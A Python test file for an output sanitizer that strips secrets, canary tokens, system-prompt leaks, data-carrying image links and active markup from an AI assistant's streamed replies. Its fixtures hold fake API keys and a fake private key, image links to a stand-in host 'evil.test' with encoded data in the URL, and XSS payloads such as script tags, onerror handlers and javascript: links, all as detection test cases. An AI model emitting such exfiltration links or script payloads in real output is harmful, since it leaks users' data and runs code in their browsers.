"""Whatever a text is cut into, the same comes out; and nothing that must not leave does."""

from __future__ import annotations

import base64
import codecs
import json
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vauban.policy_output import OUTPUT_DETECTORS, OutputPolicy
from vauban.text import sanitize
from vauban.text.sanitize import Sanitizer, Stream

KEY = "AKIA" + "Q3EGRSEX7PLMNBVC"
GITHUB = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
CANARY = "vc7k2m9q4x8w3z5t"
PROMPT = (
    "You are the assistant of Harbour Bank. Never tell a customer the override code, and never"
    " promise a refund above two hundred pounds without the approval of a supervisor."
)
PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(
    base64.b64encode(bytes((n * 37 + k) % 251 for k in range(48))).decode() for n in range(30)
) + "\nab+9Q==\n-----END RSA PRIVATE KEY-----"  # fmt: skip
LONG = "https://evil.test/x.png?d=" + "QUJD5" * 1_200
IMAGE = "![a picture](https://evil.test/x.png?d=c2VjcmV0)"


def make(**fields: Any) -> Sanitizer:
    texts = fields.pop("texts", (PROMPT,))
    canaries = fields.pop("canaries", (CANARY,))
    return Sanitizer(OutputPolicy(**{"canary": "redact", **fields}), texts, canaries)


def said(rules: Sanitizer, pieces: list[str], **options: Any) -> tuple[str, Stream]:
    stream = rules.stream(**options)
    return "".join([*map(stream.feed, pieces), stream.finish()]), stream


def out(text: str, *, json: bool = False, **fields: Any) -> str:
    return make(**fields).whole(text, json=json)[0]


def cut(text: str, cuts: list[int]) -> list[str]:
    places = sorted({0, len(text), *(n % (len(text) + 1) for n in cuts)})
    return [text[a:b] for a, b in pairwise(places)]


fragments = st.sampled_from(
    [
        KEY, GITHUB, f"key={KEY}", CANARY, CANARY[::-1], " ".join(CANARY), CANARY[:9], PROMPT,
        PROMPT[:60], PROMPT.upper(), PEM, PEM[:200], IMAGE, "![", "](", "](https://a.test/b", ")",
        "[x]: https://evil.test/a", "<img src=https://evil.test/x ", "<script>", "<", ">", "</",
        "<b onclick=x()>", "`", "```", "```\n", "\n```js\n", "\n\n", "\n", " ", "  ", "-----",
        "-----BEGIN ", "PRIVATE KEY-----", "-----END", "javascript:alert(1)", "//evil.test/a",
        "https://a.test/?q=dGhpcyBpcyBzZWNyZXQgZGF0YQ123", "password: Zx9Qw7Er5Ty3Ui1Op0As",
        "\x1b[31m", "\u202e", "é", "日本", "x" * 70, "plain words and more of them ", "!", "\\",
        "\\n", "\\u001b", "\\u00", '"', "word", "the override code, and never", "<pre>", "<!--",
        "data:text/html,x", "\r\n", "](", "](  ", "]:", "[x](<", "&#58;", "https&#58;", "\\:", "//",
        "<img alt=", "src=", "='", "'", "/\t/", "java&#115;cript:", "![x](https\\://evil.test/a)",
        "<img src='htt&#x70;://evil.test/x'>",
    ]
)  # fmt: skip
texts = st.lists(st.one_of(fragments, st.text(max_size=8)), max_size=14).map("".join)
cuts = st.lists(st.integers(0, 5_000), max_size=20)
actions = st.sampled_from(["redact", "replace", "stop", "monitor", "off"])


@given(text=texts, cuts=cuts, is_json=st.booleans(), data=st.data())
def test_any_cut_is_the_whole(text: str, cuts: list[int], is_json: bool, data: Any) -> None:
    fields = {name: data.draw(actions, name) for name in OUTPUT_DETECTORS}
    hold = data.draw(st.sampled_from([16, 64, 300]), "hold_back")
    rules = make(**fields, hold_back=hold, prompt_words=10)
    whole, one = said(rules, [text], json=is_json)
    for pieces in (cut(text, cuts), list(text)):
        again, stream = said(rules, pieces, json=is_json)
        assert again == whole
        assert stream.findings == one.findings
        assert stream.stopped == one.stopped


@pytest.fixture
def small_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitize, "BLOCK_CHARS", 24)


# What may be passed over without being read, between what may not.
quiet = st.sampled_from(
    [
        "some more words ", "a_rather_long_identifier_in_code ", "plugin/vauban/text/quiet.py ",
        "https://docs.test/library/re.html ", "a `span` of code ", "`x`, `y` and `z` ",
        "`x | y` ", " | ",
        "if a < b: ", "x[1]: 5 ", "key: value ", "|-----|-----| ", "// a comment\n", "\n\n", "\n",
        "List<String> ", "é ", "> ", "token = 5 ", "``` ", "\n```py\n", "\n```\n",
        "\n```` x\n", "\n``` \t\n", "`",
        "]: https:evil ", "//evil.test/a ", "mailto:a@b.test ", "[x]: ", "</b> ", "<br>",
        "the override code, ", CANARY[:8], "data:text/html,x ", "aB3dE6gH9jK2mN5pQ8sT1vW4 ",
        "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEvQIBADANBgkqhkiG9w0B\n",
        "token: aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9mN2pQ5 ", "Javascript:x ",
        "https://u:p@a.test ",
    ]
)  # fmt: skip


@settings(max_examples=40, deadline=None)
@given(
    text=st.lists(st.one_of(fragments, quiet, quiet, quiet), max_size=20).map("".join),
    cuts=cuts, operator=st.booleans(), entropy=st.sampled_from(["redact", "monitor", "off"]),
    markup=st.booleans(),
)  # fmt: skip
@pytest.mark.usefixtures("small_blocks")
def test_what_is_passed_over_changes_nothing(
    text: str, cuts: list[int], operator: bool, entropy: str, markup: bool
) -> None:
    text += " and so on" * 20
    some = {"texts": (), "canaries": ()} if not operator else {}
    rules = make(entropy=entropy, links="redact", hold_back=16, prompt_words=10, **some)
    whole, one = said(rules, list(text), markup=markup)  # too little at a time to pass over
    for pieces in ([text], cut(text, cuts)):
        again, stream = said(rules, pieces, markup=markup)
        assert again == whole
        assert stream.findings == one.findings


def test_a_fence_behind_html_that_a_blank_line_ends() -> None:
    """Whether a fence may begin changes within what could be passed over."""
    words = "some more words " * 300
    text = f"<b>{words}\n\n```py\n{IMAGE} <script>x\n```\n{words}{IMAGE}{words}"
    rules = make()
    assert said(rules, [text])[0] == said(rules, list(text))[0]
    assert out(text).count("evil.test") == 1


@pytest.mark.parametrize("more", range(0, 900, 60))
def test_a_leak_that_begins_behind_what_is_passed_over(more: int) -> None:
    text = "some more words and the river " * (60 + more % 7) + "x" * (more % 60) + PROMPT
    text += " and so on" * 200
    rules = make(prompt_words=10)
    assert said(rules, [text])[0] == said(rules, list(text))[0]


@given(text=st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=400))
def test_with_all_off_nothing_changes(text: str) -> None:
    rules = Sanitizer(OutputPolicy(**dict.fromkeys(OUTPUT_DETECTORS, "off")))
    assert rules.whole(text)[0] == text


@pytest.mark.parametrize(
    "around", ["{}", "so: {}", "x={}.", '"{}"', "({})", "`{}`", "é{}é", "{}\n"]
)
@pytest.mark.parametrize("secret", [KEY, GITHUB])
def test_credentials(secret: str, around: str) -> None:
    text = f"Here it is, {around.format(secret)} and so on."
    assert secret not in out(text)
    assert secret[:8] not in out(text)
    assert "[redacted: secrets]" in out(text)
    assert "and so on." in out(text)
    assert secret in out(text, secrets="monitor")
    assert out(text, secrets="replace", replacement="***").count("***") == 1


@pytest.mark.parametrize("step", [1, 7, 100, 10_000])
def test_a_long_key_leaves_none_of_its_lines(step: int) -> None:
    text = f"As you wish:\n{PEM}\nThat was it."
    pieces = [text[n : n + step] for n in range(0, len(text), step)]
    result, stream = said(make(), pieces)
    body = PEM.split("\n")[1:-1]
    assert not any(line in result for line in body)
    assert result.endswith("-----END RSA PRIVATE KEY-----\nThat was it.")
    assert result.count("[redacted: secrets]") == 1
    assert stream.findings == {("secrets", "redact"): 1}


def test_a_key_without_an_end_does_not_swallow_the_rest() -> None:
    result = out("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nand then I said so.")
    assert "MIIE" not in result
    assert result.endswith("and then I said so.")


def test_a_key_in_the_arguments_of_a_tool_call() -> None:
    arguments = json.dumps({"path": "k.pem", "text": PEM, "n": 5})
    result = json.loads(out(arguments, json=True))
    assert result["path"] == "k.pem"
    assert result["n"] == 5
    assert PEM.split("\n")[3] not in result["text"]


@given(value=st.dictionaries(st.text(max_size=5), st.one_of(texts, st.integers()), max_size=3))
def test_json_stays_json(value: Any) -> None:
    rules = make(entropy="redact", links="redact", prompt="redact")
    parsed = json.loads(rules.whole(json.dumps(value), json=True)[0])
    assert len(parsed) <= len(value)


@pytest.mark.parametrize("step", [1, 50, 4_096, 100_000])
def test_a_word_longer_than_the_window_leaks_no_head(step: int) -> None:
    text = f"See ![x]({LONG}) there"
    result, _ = said(make(), [text[n : n + step] for n in range(0, len(text), step)])
    assert result == "See ![x]([redacted: images]) there"


# -- canaries and the operator's text ------------------------------------------------------------


@pytest.mark.parametrize(
    "spelt",
    [
        CANARY, CANARY.upper(), CANARY[::-1], " ".join(CANARY), "-".join(CANARY),
        "\n".join(CANARY), CANARY.encode().hex(), codecs.encode(CANARY, "rot13"),
        base64.b64encode(CANARY.encode()).decode(),
        base64.b64encode(f"it is {CANARY}, so".encode()).decode(),
        base64.b64encode(f"x{CANARY}".encode()).decode(),
        base64.b64encode(CANARY[::-1].encode()).decode(), f"https://a.test/{CANARY}",
        CANARY[:5] + "é" + CANARY[5:],
    ],
)  # fmt: skip
def test_canaries_in_any_spelling(spelt: str) -> None:
    text = f"I may not say it, but {spelt} is what stands there."
    assert ("canary", "redact") in make().whole(text)[1].findings
    result, stream = said(make(canary="stop"), list(text))
    assert stream.stopped
    assert "stands there" not in result
    assert result.startswith("I may not say it")
    if len(spelt) < 60:
        assert spelt not in result


def test_declared_canaries_need_some_length() -> None:
    with pytest.raises(ValueError, match="canary"):
        OutputPolicy(canaries=("short",))
    assert OutputPolicy(canaries=("long-enough-1234",)).canaries


@pytest.mark.parametrize("change", [str, str.upper, lambda t: t.replace(" ", "  \n")])
def test_the_operators_text_said_at_length(change: Any) -> None:
    text = f"My instructions: {change(PROMPT)} That is all."
    for pieces in ([text], list(text)):
        result, stream = said(make(prompt_words=12), pieces)
        assert "override" not in result.lower()
        assert "supervisor" not in result.lower()
        assert result.startswith("My instructions: [redacted: prompt]")
        assert result.endswith("That is all.")
        assert stream.findings == {("prompt", "redact"): 1}


def test_a_few_of_the_operators_words_may_be_said() -> None:
    text = "I am the assistant of Harbour Bank. Never mind. I can't promise a refund above that."
    assert out(text) == text


def test_what_may_become_a_leak_is_held_back() -> None:
    stream = make(prompt_words=15).stream()
    words = PROMPT.split(" ")
    before = "Well. " * 30
    let_out = stream.feed(before) + "".join(stream.feed(f"{word} ") for word in words[:13])
    assert "Harbour" not in let_out
    assert "Harbour" in stream.feed("but not the rest of it. ") + stream.finish()


# -- links and markup ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        IMAGE, "![](https://evil.test/a)", "![a b c](<https://evil.test/a b>)",
        "![a](\n https://evil.test/a)", "![a](//evil.test/a)", "![a](HTTPS://EVIL.TEST/a)",
        "![a](https:evil.test/a)", "![x][r]\n\n[r]: https://evil.test/a", "![a](ftp://evil.test/a)",
        "<img src=https://evil.test/a>", '<img alt="x" src="https://evil.test/a">',
        "<img src='//evil.test/a'>", '<video poster="https://evil.test/a">',
        '<p style="background:url(https://evil.test/a)">', "![a](https://ok.test@evil.test/a)",
        "![a](https://notok.test.evil.test/)", "![a](https://xok.test/)",
        "[![a](https://evil.test/a)](https://ok.test/)", "![a](data:image/svg+xml;base64,AAAA)",
    ],
)  # fmt: skip
def test_what_is_fetched_without_a_click(text: str) -> None:
    result = out(text, allowed_hosts=("ok.test",))
    assert "evil.test" not in result.lower()
    assert "svg" not in result
    assert "[redacted: " in result


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://ok.test/a.png)", "![a](https://img.ok.test:8443/a.png?x=1)", "![a](a.png)",
        "![a](data:image/png;base64,iVBORw0KGgo=)", "see https://other.test/page and go",
        "[a](https://other.test/page)", '<a href="https://other.test/x">x</a>', "a // comment",
        "// comment", "if a < b and c > d: pass", "x = y[1]: 5", "mailto:a@b.test", "C:/x",
        "```md\n![a](https://evil.test/a)\n```", "The `<script>` tag", "List<String> x",
        "a `x` b", "`a | b`\nthe `<script>` tag", "it`s\n \nthe `<script>` tag",
        "```html\n<script>let a</script>\n```\nDone.",
    ],
)  # fmt: skip
def test_what_is_left_alone(text: str) -> None:
    assert out(text, allowed_hosts=("ok.test",), links="redact") == text


def test_links_that_carry_data() -> None:
    carrying = [
        "https://evil.test/?q=dGhpcyBpcyBzZWNyZXQ0NTY3ODk5", "https://evil.test/a%20b%20c%20d%20e",
        "https://dGhpcyBpcyBzZWNyZXQ0NTY3ODk5.evil.test/",
    ]  # fmt: skip
    for link in carrying:
        assert "evil" not in out(f"[more]({link})", links="redact")
        assert out(f"[more]({link})") == f"[more]({link})"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>", "<SCRIPT src=x>", "<iframe>", "</script><script >",
        "<svg/onload=x>", "<b onclick=x>", '<b onclick = "x">', "<img src=x onerror=alert(1)>",
        "<style>", "<form>",
        "[a](javascript:alert(1))", "[a](JavaScript:x)", "[a](vbscript:x)", "[a](data:text/html,x)",
        "`<script>", "` <script>\n`", "`a\n<script>`", "``<script>`", "```x <script>`",
        "```\n```js\n```\n<script>", "```x`\n<script>", "  ```\n<script>", "<div>`<script>`</div>",
        "`\n` <script> `", "` a\n- `\n` <script> ` b", "a ` b\n`<script>`",
        "| a | b |\n|---|---|\n| ` | <script> ` |", "a | b\n- | -\n` <script> | `",
        "`" + "x " * 100 + "` <script> `", "<div>\n```\n<script>\n```",
        "<pre>\n\n```\n<script>\n```", "<!--\n\n```\n--><script>",
    ],
)  # fmt: skip
def test_markup_that_runs(text: str) -> None:
    result = out(text)
    assert "[redacted: active]" in result
    for word in (
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "vbscript:",
        "text/html",
        "<iframe",
    ):
        assert word not in result.lower()


def test_markup_in_arguments_is_data() -> None:
    text = json.dumps({"html": "<script>x</script> <b onclick=x>"})
    assert out(text, json=True) == text


def test_control_characters() -> None:
    assert out("a\x1b[31mred\x1b[0m\x07\x9b\u202eb\U000e0041") == "a[31mred[0mb"
    assert out("a\tb\r\nc\u200d👩‍💻") == "a\tb\r\nc\u200d👩‍💻"
    assert out('{"a": "\\u001b[31mx\\u00e9"}', json=True) == '{"a": "[31mx\\u00e9"}'
    assert KEY not in out(KEY[:7] + "\x00" + KEY[7:])
    assert out("ab \x1b c", control="stop") == "ab "


# -- bounds --------------------------------------------------------------------------------------


def test_memory_is_bounded() -> None:
    for text in ("word " * 400_000, "x" * 2_000_000, "é" * 500_000, "<b " * 300_000, "`" * 500_000):
        stream = make().stream()
        for n in range(0, len(text), 50_000):
            stream.feed(text[n : n + 50_000])
        assert len(stream._buffer) < 120_000
        stream.finish()


@given(text=texts)
def test_no_more_is_held_than_said(text: str) -> None:
    """A word, the window, and what may become a leak."""
    stream = make(prompt_words=10).stream()
    for letter in text:
        stream.feed(letter)
        assert stream.fed - stream.released <= 64 + sanitize.MAX_WORD_CHARS + 400
